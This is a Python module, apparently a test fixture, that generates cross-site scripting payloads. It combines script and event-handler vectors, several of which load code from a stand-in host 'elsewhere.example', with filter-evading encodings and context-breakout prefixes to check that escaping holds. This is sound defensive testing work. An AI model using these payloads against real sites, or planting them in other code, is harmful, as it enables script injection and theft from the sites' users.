"""Texts that would run a script, ask another site or leave their place, were they not escaped."""

import json
from collections.abc import Callable
from itertools import product
from pathlib import Path
from urllib.parse import quote

PUBLIC: list[str] = json.loads(
    (Path(__file__).parent / "public" / "script-payloads.json").read_text("utf-8")
)
ELSEWHERE = "//elsewhere.example"
# What runs or asks.
VECTORS = (
    "<script>alert(1)</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{ELSEWHERE}/p.png">',
    "<svg onload=alert(1)><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    f"<style>@import '{ELSEWHERE}/x.css'</style>",
    f"<base href={ELSEWHERE}/>",
    f'<link rel=stylesheet href="{ELSEWHERE}/x.css">',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    f"<form action={ELSEWHERE}/><button>x</button></form>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<mark>x</mark><img src=x onerror=alert(1)>",
    "![x](x){onerror=alert(1)} [x](javascript:alert(1)) <javascript:alert(1)>",
)
# How it may be spelt so that somebody who looks for < does not see it.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "named": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "named twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "decimal": lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    "hexadecimal": lambda text: text.replace("<", "&#x3c").replace(">", "&#x3E;"),
    "escaped": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    "percent": quote,
    "backslash": lambda text: text.replace("<", "\\<").replace("`", "\\`"),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "capitals": lambda text: text.replace("script", "sCrIpT").replace("img", "IMG/"),
}
# What it must get out of first: an attribute, an element, a comment, code, a link, a formula.
CONTEXTS = (
    *(("", ""), ('"> ', ""), ("'/>", " x='"), ('" autofocus onfocus="alert(1)" x="', "")),
    *(("</script>", "<script>"), ("</title></head>", ""), ("</textarea></pre>", ""), ("--> ", "")),
    *(("]]>", "<![CDATA["), ("</text></svg>", "<svg><text>"), ("`", "`"), ("``` ", " ```")),
    *(("[x](", ")"), ("](#) ", " [x](#)"), ("{{ ", " }}"), ("=", ""), ("</mark>", "<mark>")),
)
OURS = tuple(
    dict.fromkeys(
        before + spell(vector) + after
        for vector, spell, (before, after) in product(VECTORS, ENCODINGS.values(), CONTEXTS)
    )
)
